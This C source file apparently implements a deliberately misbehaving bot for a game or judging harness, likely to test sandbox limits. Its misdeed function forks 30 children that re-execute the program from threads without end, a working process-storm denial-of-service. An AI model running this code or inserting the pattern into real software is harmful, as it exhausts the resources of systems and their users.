/* Replaces itself by itself for a second, and 30 children without an end, each time from a thread. */
#include "play.h"

#include <pthread.h>
#include <time.h>

static char *arguments[4] = {"./bot"};

static void *replace(void *none)
{
    execv("./bot", arguments);
    return none;
}

static void storm(void)
{
    pthread_t thread;
    for (;;)
        if (pthread_create(&thread, NULL, replace, NULL) == 0)
            pthread_join(thread, NULL);
}

/* Where the new program begins: its arguments are a time to go on until, and the request. */
__attribute__((constructor)) static void begin(int argc, char **argv)
{
    char type[16];
    if (argc < 3)
        return;
    memcpy(arguments, argv, sizeof arguments);
    if (time(NULL) < atol(argv[1]))
        storm();
    sscanf(argv[2], "{\"type\":\"%15[a-z_]", type);
    play_answer(argv[2], type, NULL);
}

static const char *misdeed(const char *line)
{
    char until[24];
    if (arguments[1] != NULL)
        return NULL;
    for (int child = 0; child < 30; child++)
        if (fork() == 0) {
            arguments[1] = "9999999999";
            arguments[2] = "child";
            storm();
        }
    snprintf(until, sizeof until, "%ld", (long)time(NULL) + 1);
    arguments[1] = until;
    arguments[2] = (char *)line;
    storm();
    return NULL;
}
